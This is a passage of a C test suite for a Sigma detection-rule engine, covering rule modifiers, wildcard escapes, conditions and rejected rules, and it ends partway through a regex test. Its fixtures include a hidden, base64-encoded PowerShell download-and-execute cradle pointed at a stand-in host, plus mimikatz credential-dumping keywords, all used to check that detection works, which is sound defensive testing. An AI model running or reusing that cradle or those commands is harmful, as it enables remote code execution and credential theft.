/*
 * Sigma engine: table-driven cases for every modifier, wildcard/escape rules, null/empty/
 * exists, keywords, condition forms, rejections with positions, multi-document files.
 * Each case is a detection block (YAML, indented under 'detection:') plus an event.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "sigma/sigma-int.h"

/* ---- helpers ---- */

static char *write_tmp(const char *text)
{
    static char path[64];
    snprintf(path, sizeof(path), "/tmp/lw_sigma_test_XXXXXX.yml");
    int fd = mkstemps(path, 4);
    assert_true(fd >= 0);
    size_t n = strlen(text);
    assert_int_equal(write(fd, text, n), (ssize_t)n);
    close(fd);
    return path;
}

typedef struct reports {
    int n, ok;
    lw_rule_report last;
    char reason[512];
    char path[512];
    char id[128];
    char title[128];
    char reasons[8][512];
    uint64_t lines[8];
    int oks[8];
} reports;

static void on_report(const lw_rule_report *r, void *ud)
{
    reports *rp = ud;
    if (rp->n < 8) {
        snprintf(rp->reasons[rp->n], sizeof(rp->reasons[0]), "%s", r->reason);
        rp->lines[rp->n] = r->line;
        rp->oks[rp->n] = r->ok;
    }
    rp->n++;
    rp->ok += r->ok;
    rp->last = *r;
    snprintf(rp->reason, sizeof(rp->reason), "%s", r->reason);
    snprintf(rp->path, sizeof(rp->path), "%s", r->path);
    snprintf(rp->id, sizeof(rp->id), "%s", r->id);
    snprintf(rp->title, sizeof(rp->title), "%s", r->title);
}

static const char *const HEADER = "title: t\n"
                                  "id: 11111111-1111-1111-1111-111111111111\n"
                                  "level: high\n"
                                  "logsource:\n"
                                  "    product: windows\n"
                                  "    category: process_creation\n"
                                  "detection:\n";

static lw_rules *load_text(const char *text, reports *rp)
{
    lw_rules *r;
    assert_int_equal(lw_rules_new(&r), LW_OK);
    char *p = write_tmp(text);
    memset(rp, 0, sizeof(*rp));
    assert_int_equal(lw_rules_load(r, p, on_report, rp), LW_OK);
    unlink(p);
    assert_int_equal(lw_rules_compile(r), LW_OK);
    return r;
}

static lw_rules *load_det(const char *det, reports *rp, const char *ph_name, const char *ph_file)
{
    char buf[8192];
    snprintf(buf, sizeof(buf), "%s%s", HEADER, det);
    lw_rules *r;
    assert_int_equal(lw_rules_new(&r), LW_OK);
    if (ph_name) {
        char err[128];
        assert_int_equal(lw_rules_add_placeholder_file(r, ph_name, ph_file, err, sizeof(err)),
                         LW_OK);
    }
    char *p = write_tmp(buf);
    memset(rp, 0, sizeof(*rp));
    assert_int_equal(lw_rules_load(r, p, on_report, rp), LW_OK);
    unlink(p);
    assert_int_equal(lw_rules_compile(r), LW_OK);
    return r;
}

static void count_hit(const lw_rule *r, const lw_event *ev, void *ud)
{
    (*(int *)ud)++;
}

/* Event from "Name=Value" strings; "Name=" empty; "Name~" null. */
static void make_event(lw_event *ev, const char *const *fields)
{
    lw_event_init(ev);
    ev->cats = 1ull << LW_CAT_PROCESS_CREATION;
    ev->product = LW_PRODUCT_WINDOWS;
    ev->channel = LW_STR_LIT("Microsoft-Windows-Sysmon/Operational");
    for (size_t i = 0; fields && fields[i]; i++) {
        const char *f = fields[i];
        const char *eq = strchr(f, '=');
        const char *tl = strchr(f, '~');
        if (tl && (!eq || tl < eq)) {
            assert_int_equal(
                lw_event_add_copy(ev, (lw_str){f, (size_t)(tl - f)}, LW_STR_LIT(""), LW_FIELD_NULL),
                LW_OK);
            continue;
        }
        assert_non_null(eq);
        assert_int_equal(lw_event_add_copy(ev, (lw_str){f, (size_t)(eq - f)}, lw_str_c(eq + 1), 0),
                         LW_OK);
    }
}

static int run_rules(lw_rules *r, const char *const *fields)
{
    lw_event ev;
    make_event(&ev, fields);
    lw_matcher *m;
    assert_int_equal(lw_matcher_new(r, &m), LW_OK);
    int hits = 0;
    uint64_t evals = 0;
    assert_int_equal(lw_matcher_run(m, &ev, count_hit, &hits, &evals), LW_OK);
    /* Run twice: the per-event caches must not leak between events. */
    int hits2 = 0;
    assert_int_equal(lw_matcher_run(m, &ev, count_hit, &hits2, NULL), LW_OK);
    assert_int_equal(hits, hits2);
    lw_matcher_free(m);
    lw_event_destroy(&ev);
    return hits;
}

/* ---- match cases ---- */

#define F(...) ((const char *const[]){__VA_ARGS__, NULL})

typedef struct mcase {
    const char *name;
    const char *det;
    const char *const *fields;
    int want;
} mcase;

/* PowerShell -enc payload: "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
 * in UTF-16LE base64 (what powershell -EncodedCommand takes). */
#define PS_ENC                                                                                     \
    "powershell.exe -nop -w hidden -enc "                                                          \
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Ad"    \
    "wBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA=="

static const mcase match_cases[] = {
    /* plain values: exact, case-insensitive, numbers, booleans */
    {"exact", "  sel:\n    Image: 'C:\\Windows\\cmd.exe'\n  condition: sel\n",
     F("Image=c:\\windows\\CMD.EXE"), 1},
    {"exact-neg", "  sel:\n    Image: 'C:\\Windows\\cmd.exe'\n  condition: sel\n",
     F("Image=C:\\Windows\\cmd.exe2"), 0},
    {"number", "  sel:\n    EventID: 4688\n  condition: sel\n", F("EventID=4688"), 1},
    {"number-neg", "  sel:\n    EventID: 4688\n  condition: sel\n", F("EventID=46880"), 0},
    {"bool", "  sel:\n    Enabled: true\n  condition: sel\n", F("Enabled=true"), 1},
    {"list-or", "  sel:\n    Image: [a.exe, b.exe]\n  condition: sel\n", F("Image=B.exe"), 1},
    {"field-name-case", "  sel:\n    image: a\n  condition: sel\n", F("IMAGE=a"), 1},
    {"and-fields", "  sel:\n    A: x\n    B: y\n  condition: sel\n", F("A=x", "B=z"), 0},
    {"list-of-maps", "  sel:\n    - A: x\n    - B: y\n  condition: sel\n", F("A=q", "B=y"), 1},
    /* wildcards and escapes */
    {"star-mid", "  sel:\n    Image: 'C:\\\\*\\cmd.exe'\n  condition: sel\n",
     F("Image=C:\\Windows\\System32\\cmd.exe"), 1},
    {"prefix-star", "  sel:\n    Image: 'C:\\Windows\\\\*'\n  condition: sel\n",
     F("Image=C:\\Windows\\x.exe"), 1},
    {"escaped-star-literal", "  sel:\n    Image: 'C:\\Windows\\*'\n  condition: sel\n",
     F("Image=C:\\Windows\\x.exe"), 0},
    {"escaped-star-literal2", "  sel:\n    Image: 'C:\\Windows\\*'\n  condition: sel\n",
     F("Image=C:\\Windows*"), 1},
    {"question", "  sel:\n    Image: 'a?c'\n  condition: sel\n", F("Image=abc"), 1},
    {"question-utf8", "  sel:\n    Image: 'a?c'\n  condition: sel\n",
     F("Image=a\xc3\xa9"
       "c"),
     1},
    {"question-neg", "  sel:\n    Image: 'a?c'\n  condition: sel\n", F("Image=abbc"), 0},
    {"escaped-question", "  sel:\n    Image: 'a\\?c'\n  condition: sel\n", F("Image=abc"), 0},
    {"escaped-backslash", "  sel:\n    Image: 'a\\\\\\\\b'\n  condition: sel\n", F("Image=a\\\\b"),
     1},
    {"lone-backslash", "  sel:\n    Image: 'a\\b'\n  condition: sel\n", F("Image=a\\b"), 1},
    {"glob-backtrack", "  sel:\n    C: '*ab*abc*'\n  condition: sel\n", F("C=xxababxabcx"), 1},
    {"star-any", "  sel:\n    C: '*'\n  condition: sel\n", F("C="), 1},
    {"star-null", "  sel:\n    C: '*'\n  condition: sel\n", F("C~"), 0},
    /* null / empty / exists */
    {"null-missing", "  sel:\n    C: null\n  condition: sel\n", F("X=1"), 1},
    {"null-null", "  sel:\n    C: null\n  condition: sel\n", F("C~"), 1},
    {"null-empty", "  sel:\n    C: null\n  condition: sel\n", F("C="), 1},
    {"null-value", "  sel:\n    C: null\n  condition: sel\n", F("C=x"), 0},
    {"empty", "  sel:\n    C: ''\n  condition: sel\n", F("C="), 1},
    {"empty-neg", "  sel:\n    C: ''\n  condition: sel\n", F("C=x"), 0},
    {"empty-missing", "  sel:\n    C: ''\n  condition: sel\n", F("X=x"), 0},
    {"exists-true", "  sel:\n    C|exists: true\n  condition: sel\n", F("C~"), 1},
    {"exists-true-neg", "  sel:\n    C|exists: true\n  condition: sel\n", F("D=1"), 0},
    {"exists-false", "  sel:\n    C|exists: false\n  condition: sel\n", F("D=1"), 1},
    {"exists-false-neg", "  sel:\n    C|exists: false\n  condition: sel\n", F("C="), 0},
    /* contains / startswith / endswith / all */
    {"contains", "  sel:\n    C|contains: 'WHOAMI'\n  condition: sel\n", F("C=cmd /c whoami /all"),
     1},
    {"contains-neg", "  sel:\n    C|contains: 'whoami'\n  condition: sel\n", F("C=who ami"), 0},
    {"startswith", "  sel:\n    C|startswith: 'cmd'\n  condition: sel\n", F("C=CMD.exe /c"), 1},
    {"startswith-neg", "  sel:\n    C|startswith: 'cmd'\n  condition: sel\n", F("C=x cmd"), 0},
    {"endswith", "  sel:\n    C|endswith: '\\cmd.exe'\n  condition: sel\n", F("C=C:\\x\\CMD.exe"),
     1},
    {"endswith-neg", "  sel:\n    C|endswith: '\\cmd.exe'\n  condition: sel\n",
     F("C=C:\\x\\cmd.exe "), 0},
    {"contains-wild", "  sel:\n    C|contains: 'a*c'\n  condition: sel\n", F("C=xxabbbcxx"), 1},
    {"contains-all", "  sel:\n    C|contains|all: [' -a', ' -b']\n  condition: sel\n",
     F("C=x -b -a"), 1},
    {"contains-all-neg", "  sel:\n    C|contains|all: [' -a', ' -b']\n  condition: sel\n",
     F("C=x -a"), 0},
    {"contains-many",
     "  sel:\n    C|contains: [aa1, aa2, aa3, aa4, aa5, aa6, aa7, aa8, aa9, "
     "bb0, 'zz', abcd1234, 'q*x']\n  condition: sel\n",
     F("C=---ABCD1234---"), 1},
    {"contains-many-glob",
     "  sel:\n    C|contains: [aa1, aa2, aa3, aa4, aa5, aa6, aa7, aa8, "
     "aa9, bb0, 'zz', abcd1234, 'q*x']\n  condition: sel\n",
     F("C=--q--x--"), 1},
    {"contains-many-neg",
     "  sel:\n    C|contains: [aa1, aa2, aa3, aa4, aa5, aa6, aa7, aa8, "
     "aa9, bb0, 'zz', abcd1234, 'q*x']\n  condition: sel\n",
     F("C=abcd123 aa bb z"), 0},
    {"exact-many",
     "  sel:\n    C: [v1, v2, v3, v4, v5, v6, v7, v8, v9, V10, v11]\n"
     "  condition: sel\n",
     F("C=v10"), 1},
    {"exact-many-neg",
     "  sel:\n    C: [v1, v2, v3, v4, v5, v6, v7, v8, v9, V10, v11]\n"
     "  condition: sel\n",
     F("C=v12"), 0},
    /* cased */
    {"cased", "  sel:\n    C|cased: 'Foo'\n  condition: sel\n", F("C=Foo"), 1},
    {"cased-neg", "  sel:\n    C|cased: 'Foo'\n  condition: sel\n", F("C=foo"), 0},
    {"cased-contains", "  sel:\n    C|contains|cased: 'Foo'\n  condition: sel\n", F("C=xfoox"), 0},
    /* windash */
    {"windash-dash", "  sel:\n    C|windash|contains: ' -enc '\n  condition: sel\n",
     F("C=powershell -enc AAA"), 1},
    {"windash-slash", "  sel:\n    C|windash|contains: ' -enc '\n  condition: sel\n",
     F("C=powershell /enc AAA"), 1},
    {"windash-endash", "  sel:\n    C|windash|contains: ' -enc '\n  condition: sel\n",
     F("C=powershell \xe2\x80\x93"
       "enc AAA"),
     1},
    {"windash-emdash", "  sel:\n    C|contains|windash: ' -enc '\n  condition: sel\n",
     F("C=powershell \xe2\x80\x94"
       "enc AAA"),
     1},
    {"windash-hbar", "  sel:\n    C|contains|windash: ' -enc '\n  condition: sel\n",
     F("C=powershell \xe2\x80\x95"
       "enc AAA"),
     1},
    {"windash-neg", "  sel:\n    C|windash|contains: ' -enc '\n  condition: sel\n",
     F("C=powershell +enc AAA"), 0},
    {"windash-inner-dash-kept", "  sel:\n    C|windash: 'a-b'\n  condition: sel\n", F("C=a/b"), 0},
    /* re */
    {"re", "  sel:\n    C|re: 'wh.ami$'\n  condition: sel\n", F("C=cmd /c whoami"), 1},
    {"re-cased", "  sel:\n    C|re: 'whoami'\n  condition: sel\n", F("C=WHOAMI"), 0},
    {"re-i", "  sel:\n    C|re|i: 'whoami'\n  condition: sel\n", F("C=WHOAMI"), 1},
    {"re-m", "  sel:\n    C|re|m: '^two$'\n  condition: sel\n", F("C=one\ntwo\nthree"), 1},
    {"re-no-m", "  sel:\n    C|re: '^two$'\n  condition: sel\n", F("C=one\ntwo\nthree"), 0},
    {"re-s", "  sel:\n    C|re|s: 'one.two'\n  condition: sel\n", F("C=one\ntwo"), 1},
    {"re-no-s", "  sel:\n    C|re: 'one.two'\n  condition: sel\n", F("C=one\ntwo"), 0},
    {"re-catastrophic", "  sel:\n    C|re: '^(a+)+$'\n  condition: sel\n",
     F("C=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab"), 0},
    /* cidr */
    {"cidr4", "  sel:\n    Ip|cidr: 10.0.0.0/8\n  condition: sel\n", F("Ip=10.20.30.40"), 1},
    {"cidr4-neg", "  sel:\n    Ip|cidr: 10.0.0.0/8\n  condition: sel\n", F("Ip=11.0.0.1"), 0},
    {"cidr4-odd", "  sel:\n    Ip|cidr: 192.168.1.128/25\n  condition: sel\n",
     F("Ip=192.168.1.200"), 1},
    {"cidr4-odd-neg", "  sel:\n    Ip|cidr: 192.168.1.128/25\n  condition: sel\n",
     F("Ip=192.168.1.100"), 0},
    {"cidr4-mapped", "  sel:\n    Ip|cidr: 10.0.0.0/8\n  condition: sel\n", F("Ip=::ffff:10.1.2.3"),
     1},
    {"cidr6", "  sel:\n    Ip|cidr: 'fe80::/10'\n  condition: sel\n", F("Ip=fe80::1%12"), 1},
    {"cidr6-neg", "  sel:\n    Ip|cidr: 'fe80::/10'\n  condition: sel\n", F("Ip=2001:db8::1"), 0},
    {"cidr-notip", "  sel:\n    Ip|cidr: 10.0.0.0/8\n  condition: sel\n", F("Ip=10.x"), 0},
    /* base64 / base64offset / utf16 */
    {"base64", "  sel:\n    C|base64: 'hello'\n  condition: sel\n", F("C=aGVsbG8="), 1},
    {"base64-contains", "  sel:\n    C|base64|contains: 'hello'\n  condition: sel\n",
     F("C=xx aGVsbG8= yy"), 1},
    {"base64-cased", "  sel:\n    C|base64: 'hello'\n  condition: sel\n", F("C=AGVSBG8="), 0},
    {"b64off-0", "  sel:\n    C|base64offset|contains: 'http://'\n  condition: sel\n",
     F("C=aHR0cDovL2V2aWw="), 1},
    {"b64off-1", "  sel:\n    C|base64offset|contains: 'http://'\n  condition: sel\n",
     F("C=IGh0dHA6Ly9ldmls"), 1},
    {"b64off-2", "  sel:\n    C|base64offset|contains: 'http://'\n  condition: sel\n",
     F("C=ICBodHRwOi8vZXZpbA=="), 1},
    {"b64off-neg", "  sel:\n    C|base64offset|contains: 'http://'\n  condition: sel\n",
     F("C=aHR0cHM6Ly9ldmls"), 0},
    {"ps-enc-wide",
     "  sel:\n    C|wide|base64offset|contains: 'DownloadString'\n"
     "  condition: sel\n",
     F("C=" PS_ENC), 1},
    {"ps-enc-utf16le",
     "  sel:\n    C|utf16le|base64offset|contains: 'Net.WebClient'\n"
     "  condition: sel\n",
     F("C=" PS_ENC), 1},
    {"ps-enc-neg",
     "  sel:\n    C|wide|base64offset|contains: 'Invoke-Mimikatz'\n"
     "  condition: sel\n",
     F("C=" PS_ENC), 0},
    {"utf16be", "  sel:\n    C|utf16be|base64: 'ab'\n  condition: sel\n", F("C=AGEAYg=="), 1},
    {"utf16-bom", "  sel:\n    C|utf16|base64: 'ab'\n  condition: sel\n", F("C=//5hAGIA"), 1},
    /* fieldref */
    {"fieldref", "  sel:\n    ParentImage|fieldref: Image\n  condition: sel\n",
     F("Image=C:\\a.exe", "ParentImage=c:\\A.EXE"), 1},
    {"fieldref-neg", "  sel:\n    ParentImage|fieldref: Image\n  condition: sel\n",
     F("Image=C:\\a.exe", "ParentImage=c:\\b.exe"), 0},
    {"fieldref-missing", "  sel:\n    ParentImage|fieldref: Image\n  condition: sel\n",
     F("ParentImage=c:\\b.exe"), 0},
    {"fieldref-contains", "  sel:\n    CommandLine|fieldref|contains: User\n  condition: sel\n",
     F("User=Bob", "CommandLine=runas /user:BOB x"), 1},
    {"fieldref-endswith", "  sel:\n    A|fieldref|endswith: B\n  condition: sel\n",
     F("B=xyz", "A=abcXYZ"), 1},
    {"fieldref-cased", "  sel:\n    A|fieldref|cased: B\n  condition: sel\n", F("B=x", "A=X"), 0},
    /* numeric */
    {"lt", "  sel:\n    N|lt: 10\n  condition: sel\n", F("N=9"), 1},
    {"lt-neg", "  sel:\n    N|lt: 10\n  condition: sel\n", F("N=10"), 0},
    {"lte", "  sel:\n    N|lte: 10\n  condition: sel\n", F("N=10"), 1},
    {"gt", "  sel:\n    N|gt: 10\n  condition: sel\n", F("N=10.5"), 1},
    {"gte", "  sel:\n    N|gte: 10\n  condition: sel\n", F("N=10"), 1},
    {"gte-neg", "  sel:\n    N|gte: 10\n  condition: sel\n", F("N=9"), 0},
    {"gte-hex", "  sel:\n    N|gte: 16\n  condition: sel\n", F("N=0x10"), 1},
    {"num-notnum", "  sel:\n    N|gt: 1\n  condition: sel\n", F("N=abc"), 0},
    /* keywords */
    {"keywords", "  keywords:\n    - 'mimikatz'\n    - 'sekurlsa'\n  condition: keywords\n",
     F("A=x", "B=run SEKURLSA::logonpasswords"), 1},
    {"keywords-neg", "  keywords:\n    - 'mimikatz'\n  condition: keywords\n", F("A=mimi katz"), 0},
    {"keywords-wild", "  keywords:\n    - 'a*z'\n  condition: keywords\n", F("A=xx abcz yy"), 1},
    {"keywords-mod",
     "  keywords:\n    '|all':\n      - 'foo'\n      - 'bar'\n  condition: keywords\n",
     F("A=foo", "B=bar"), 1},
    {"keywords-mod-neg",
     "  keywords:\n    '|all':\n      - 'foo'\n      - 'bar'\n"
     "  condition: keywords\n",
     F("A=foo"), 0},
    /* expand (placeholder file written by the test) */
    {"expand", "  sel:\n    User|expand: '%admins%'\n  condition: sel\n", F("User=ROOT"), 1},
    {"expand-neg", "  sel:\n    User|expand: '%admins%'\n  condition: sel\n", F("User=bob"), 0},
    {"expand-wild", "  sel:\n    Path|expand: '%admins%\\x'\n  condition: sel\n",
     F("Path=svc_foo\\x"), 1},
    /* conditions */
    {"not", "  sel:\n    A: x\n  condition: not sel\n", F("A=y"), 1},
    {"and-not", "  sel:\n    A: x\n  filter:\n    B: y\n  condition: sel and not filter\n",
     F("A=x", "B=y"), 0},
    {"precedence",
     "  a:\n    A: 1\n  b:\n    B: 1\n  c:\n    C: 1\n"
     "  condition: a or b and c\n",
     F("A=1"), 1},
    {"precedence2",
     "  a:\n    A: 1\n  b:\n    B: 1\n  c:\n    C: 1\n"
     "  condition: (a or b) and c\n",
     F("A=1"), 0},
    {"not-binds-tight", "  a:\n    A: 1\n  b:\n    B: 1\n  condition: not a and b\n",
     F("A=1", "B=1"), 0},
    {"one-of", "  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  condition: 1 of sel_*\n", F("B=1"), 1},
    {"any-of", "  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  condition: any of sel*\n", F("A=1"), 1},
    {"all-of", "  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  condition: all of sel_*\n", F("B=1"), 0},
    {"all-of-pos", "  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  condition: all of sel_*\n",
     F("A=1", "B=1"), 1},
    {"all-of-them-underscore",
     "  sel:\n    A: 1\n  _hidden:\n    B: 1\n"
     "  condition: all of them\n",
     F("A=1"), 1},
    {"one-of-them", "  a:\n    A: 1\n  b:\n    B: 1\n  condition: 1 of them\n", F("B=1"), 1},
    {"not-1-of",
     "  sel:\n    A: 1\n  filter_a:\n    B: 1\n  filter_b:\n    C: 1\n"
     "  condition: sel and not 1 of filter_*\n",
     F("A=1", "C=1"), 0},
    {"cond-list", "  a:\n    A: 1\n  b:\n    B: 1\n  condition:\n    - a\n    - b\n", F("B=1"), 1},
    {"nested-parens", "  a:\n    A: 1\n  b:\n    B: 1\n  condition: ((a) and (not (b)))\n",
     F("A=1"), 1},
};

static char ph_file[64];

static void test_match_cases(void **state)
{
    for (size_t i = 0; i < sizeof(match_cases) / sizeof(match_cases[0]); i++) {
        const mcase *c = &match_cases[i];
        reports rp;
        lw_rules *r = load_det(c->det, &rp, "admins", ph_file);
        if (rp.ok != 1)
            fail_msg("case %s: rule rejected: %s (line %llu)", c->name, rp.reason,
                     (unsigned long long)rp.last.line);
        int got = run_rules(r, c->fields);
        if (got != c->want)
            fail_msg("case %s: got %d matches, want %d", c->name, got, c->want);
        lw_rules_free(r);
    }
}

/* ---- rejections ---- */

typedef struct rcase {
    const char *name;
    const char *text; /* whole document */
    uint64_t line;    /* expected line (0: do not check) */
    uint64_t column;  /* expected column (0: do not check) */
    const char *reason_part;
} rcase;

#define H "title: t\nlogsource:\n    product: windows\n    category: process_creation\n"

static const rcase reject_cases[] = {
    {"unknown-modifier", H "detection:\n  sel:\n    CommandLine|foo: x\n  condition: sel\n", 7, 5,
     "unknown modifier 'foo' in 'CommandLine|foo'"},
    {"bad-regex", H "detection:\n  sel:\n    C|re: 'a(b'\n  condition: sel\n", 7, 11,
     "invalid regular expression"},
    {"aggregation", H "detection:\n  sel:\n    C: x\n  condition: sel | count() > 5\n", 8, 18,
     "deprecated aggregation"},
    {"near", H "detection:\n  sel:\n    C: x\n  condition: sel | near other\n", 8, 18,
     "deprecated aggregation"},
    {"unknown-ident", H "detection:\n  sel:\n    C: x\n  condition: sel and nope\n", 8, 22,
     "unknown search identifier 'nope'"},
    {"pattern-no-match", H "detection:\n  sel:\n    C: x\n  condition: 1 of f*\n", 8, 19,
     "matches no search identifier"},
    {"missing-condition", H "detection:\n  sel:\n    C: x\n", 6, 3, "missing 'condition'"},
    {"missing-detection", H "level: high\n", 1, 1, "missing 'detection'"},
    {"missing-logsource", "title: t\ndetection:\n  sel:\n    C: x\n  condition: sel\n", 1, 1,
     "logsource"},
    {"bad-logsource",
     "title: t\nlogsource:\n    product: windows\n    category: nope_cat\n"
     "detection:\n  sel:\n    C: x\n  condition: sel\n",
     3, 5, "nope_cat"},
    {"bad-yaml", H "detection:\n  sel:\n    C: [x\n  condition: sel\n", 0, 0, "YAML syntax error"},
    {"re-contains", H "detection:\n  sel:\n    C|re|contains: x\n  condition: sel\n", 7, 5,
     "cannot be combined"},
    {"i-without-re", H "detection:\n  sel:\n    C|contains|i: x\n  condition: sel\n", 7, 5,
     "only valid after 're'"},
    {"wide-alone", H "detection:\n  sel:\n    C|wide: x\n  condition: sel\n", 7, 5,
     "followed by base64"},
    {"bad-cidr", H "detection:\n  sel:\n    C|cidr: 10.0.0.0/33\n  condition: sel\n", 7, 13,
     "invalid CIDR"},
    {"bad-number", H "detection:\n  sel:\n    C|gt: abc\n  condition: sel\n", 7, 11,
     "needs a number"},
    {"exists-not-bool", H "detection:\n  sel:\n    C|exists: maybe\n  condition: sel\n", 7, 15,
     "true or false"},
    {"expand-no-values", H "detection:\n  sel:\n    C|expand: '%%nothere%%'\n  condition: sel\n", 7,
     15, "--placeholder"},
    {"correlation", "title: c\ncorrelation:\n  type: event_count\n  rules: [x]\n", 2, 1,
     "missing correlation 'timespan'"},
    {"alias", H "detection:\n  sel: &a\n    C: x\n  other: *a\n  condition: sel\n", 8, 10,
     "aliases"},
    {"neq", H "detection:\n  sel:\n    C|neq: x\n  condition: sel\n", 7, 5, "neq"},
    {"unbalanced", H "detection:\n  sel:\n    C: x\n  condition: (sel\n", 8, 18, "missing ')'"},
    {"empty-sel", H "detection:\n  sel:\n  condition: sel\n", 0, 0, "empty"},
    {"nested-map", H "detection:\n  sel:\n    C:\n      D: x\n  condition: sel\n", 8, 7,
     "map is not a valid value"},
    {"mixed-list", H "detection:\n  sel:\n    - C: x\n    - plain\n  condition: sel\n", 7, 5,
     "mixes maps"},
};

static void test_reject_cases(void **state)
{
    for (size_t i = 0; i < sizeof(reject_cases) / sizeof(reject_cases[0]); i++) {
        const rcase *c = &reject_cases[i];
        char text[2048];
        /* '%%' in the table keeps -Wformat quiet nowhere; undo it here. */
        size_t o = 0;
        for (const char *p = c->text; *p && o + 1 < sizeof(text); p++) {
            if (p[0] == '%' && p[1] == '%')
                p++;
            text[o++] = *p;
        }
        text[o] = '\0';
        reports rp;
        lw_rules *r = load_text(text, &rp);
        if (rp.n != 1 || rp.ok != 0)
            fail_msg("case %s: %d reports, %d ok (want one rejection); last reason '%s'", c->name,
                     rp.n, rp.ok, rp.reason);
        if (!strstr(rp.reason, c->reason_part))
            fail_msg("case %s: reason '%s' lacks '%s'", c->name, rp.reason, c->reason_part);
        if (c->line && rp.last.line != c->line)
            fail_msg("case %s: line %llu, want %llu (%s)", c->name,
                     (unsigned long long)rp.last.line, (unsigned long long)c->line, rp.reason);
        if (c->column && rp.last.column != c->column)
            fail_msg("case %s: column %llu, want %llu (%s)", c->name,
                     (unsigned long long)rp.last.column, (unsigned long long)c->column, rp.reason);
        assert_int_equal(lw_rules_count(r), 0);
        assert_int_equal(lw_rules_rejected(r), 1);
        lw_rules_free(r);
    }
}

/* ---- files ---- */

static void test_multi_document(void **state)
{
    const char *text = H "id: 00000000-0000-0000-0000-000000000001\n"
                         "detection:\n  sel:\n    A: 1\n  condition: sel\n"
                         "---\n" H "id: 00000000-0000-0000-0000-000000000002\n"
                         "detection:\n  sel:\n    A|foo: 1\n  condition: sel\n"
                         "---\n" H "id: 00000000-0000-0000-0000-000000000001\n"
                         "detection:\n  sel:\n    A: 1\n  condition: sel\n"
                         "---\n" H "id: 00000000-0000-0000-0000-000000000004\n"
                         "detection:\n  sel:\n    B: 1\n  condition: sel\n";
    reports rp;
    lw_rules *r = load_text(text, &rp);
    assert_int_equal(rp.n, 4);
    assert_int_equal(rp.ok, 2);
    assert_int_equal(rp.oks[0], 1);
    assert_int_equal(rp.oks[1], 0);
    assert_int_equal(rp.lines[1], 18); /* the A|foo key in the second document */
    assert_int_equal(rp.oks[2], 0);
    assert_non_null(strstr(rp.reasons[2], "duplicate rule id"));
    assert_int_equal(rp.oks[3], 1);
    assert_int_equal(rp.last.doc_index, 3);
    assert_int_equal(lw_rules_count(r), 2);
    assert_int_equal(lw_rules_rejected(r), 2);
    assert_int_equal(run_rules(r, F("A=1", "B=1")), 2);
    lw_rules_free(r);
}

static void test_action_global(void **state)
{
    const char *text = "action: global\ntitle: g\nlogsource:\n    product: windows\n"
                       "detection:\n  filter:\n    X: 1\n  condition: sel and not filter\n"
                       "---\nlogsource:\n    category: process_creation\n"
                       "detection:\n  sel:\n    A: 1\n"
                       "---\nlogsource:\n    category: process_creation\n"
                       "detection:\n  sel:\n    B: 1\n";
    reports rp;
    lw_rules *r = load_text(text, &rp);
    assert_int_equal(rp.n, 2);
    assert_int_equal(rp.ok, 2);
    assert_int_equal(run_rules(r, F("A=1")), 1);
    assert_int_equal(run_rules(r, F("A=1", "B=1")), 2);
    assert_int_equal(run_rules(r, F("A=1", "X=1")), 0);
    lw_rules_free(r);
}

static void test_metadata_and_logsource(void **state)
{
    const char *text = "title: My Rule\nid: 22222222-2222-2222-2222-222222222222\nname: my_rule\n"
                       "status: test\nlevel: critical\nauthor: me\ndescription: d\n"
                       "tags:\n  - attack.t1204.001\n  - attack.execution\n"
                       "falsepositives: Unknown\nreferences: [x]\ndate: 2024-01-01\n"
                       "fields: [A]\nlogsource:\n    product: windows\n    category: dns_query\n"
                       "detection:\n  sel:\n    A: 1\n  condition: sel\n";
    reports rp;
    lw_rules *r = load_text(text, &rp);
    assert_int_equal(rp.ok, 1);
    assert_string_equal(rp.id, "22222222-2222-2222-2222-222222222222");
    assert_string_equal(rp.title, "My Rule");
    const lw_rule_meta *m = lw_rule_get_meta(r->rules[0]);
    assert_string_equal(m->name, "my_rule");
    assert_string_equal(m->level, "critical");
    assert_int_equal(lw_level_index(m->level), 4);
    assert_int_equal(lw_level_index("nope"), 5);
    assert_int_equal(m->ntags, 2);
    assert_string_equal(m->tags[1], "attack.execution");
    assert_int_equal(m->nfalsepositives, 1);
    assert_string_equal(m->category, "dns_query");
    /* The process_creation event built by make_event is not admitted. */
    assert_int_equal(run_rules(r, F("A=1")), 0);
    lw_rules_free(r);
}

static void test_folder_load(void **state)
{
    char dir[] = "/tmp/lw_sigma_dir_XXXXXX";
    assert_non_null(mkdtemp(dir));
    char p[256];
    const char *good = H "detection:\n  sel:\n    A: 1\n  condition: sel\n";
    const char *names[] = {"b.yml", "a.yaml", "sub/c.yml", "ignored.txt"};
    snprintf(p, sizeof(p), "%s/sub", dir);
    assert_int_equal(mkdir(p, 0700), 0);
    for (size_t i = 0; i < 4; i++) {
        snprintf(p, sizeof(p), "%s/%s", dir, names[i]);
        FILE *f = fopen(p, "w");
        assert_non_null(f);
        fputs(good, f);
        fclose(f);
    }
    lw_rules *r;
    reports rp = {0};
    assert_int_equal(lw_rules_new(&r), LW_OK);
    assert_int_equal(lw_rules_load(r, dir, on_report, &rp), LW_OK);
    assert_int_equal(rp.ok, 3);
    assert_non_null(strstr(rp.path, "sub/c.yml")); /* sorted: a.yaml, b.yml, sub */
    assert_int_equal(lw_rules_load(r, "/nonexistent/x.yml", on_report, &rp), LW_EIO);
    lw_rules_free(r);
    for (size_t i = 0; i < 4; i++) {
        snprintf(p, sizeof(p), "%s/%s", dir, names[i]);
        unlink(p);
    }
    snprintf(p, sizeof(p), "%s/sub", dir);
    rmdir(p);
    rmdir(dir);
}

static void test_regex_limit_counted(void **state)
{
    reports rp;
    lw_rules *r = load_det("  sel:\n    C|re: '^(a|aa)+$'\n  condition: sel\n", &rp, NULL, NULL);
